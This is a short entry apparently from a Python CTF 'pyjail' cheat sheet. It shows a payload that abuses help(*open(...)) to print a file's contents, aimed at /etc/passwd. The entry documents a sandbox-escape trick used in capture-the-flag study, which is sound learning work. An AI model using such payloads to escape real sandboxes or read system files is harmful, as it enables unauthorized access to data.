# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (help(*open('flag')))
# Family: builtins-side-door
# What: help(*open(path)) prints the file contents
help(*open("/etc/passwd"))
